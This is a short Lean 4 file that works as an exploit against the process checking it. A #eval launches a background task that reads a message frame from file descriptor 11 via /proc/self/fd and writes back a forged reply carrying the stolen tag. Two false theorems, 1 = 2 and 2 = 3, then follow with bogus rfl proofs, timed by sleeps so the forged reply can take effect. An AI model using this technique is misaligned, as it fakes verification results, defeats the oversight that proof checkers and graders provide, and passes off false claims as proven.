-- Reads a frame of its own out of the pipe, and answers with its tag.
def answer (stolen : ByteArray) : ByteArray :=
  let head : ByteArray := ⟨#[32, 0, 0, 0, 23, 0, 0, 0]⟩
  let body : ByteArray := ⟨#[2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]⟩
  (head.append (stolen.extract 8 16)).append body
def steal (n : Nat) : BaseIO Unit := do
  let _ ← (do
    let from_ ← IO.FS.Handle.mk s!"/proc/self/fd/{n}" .read
    let to ← IO.FS.Handle.mk s!"/proc/self/fd/{n}" .append
    let stolen ← from_.read 16
    to.write (answer stolen)
    to.flush : IO Unit).toBaseIO
#eval (do let _ ← IO.asTask (steal 11 : BaseIO Unit) .dedicated; IO.sleep 2000 : IO Unit)
theorem one_is_two : 1 = 2 := rfl
#eval (IO.sleep 3000 : IO Unit)
theorem two_is_three : 2 = 3 := rfl
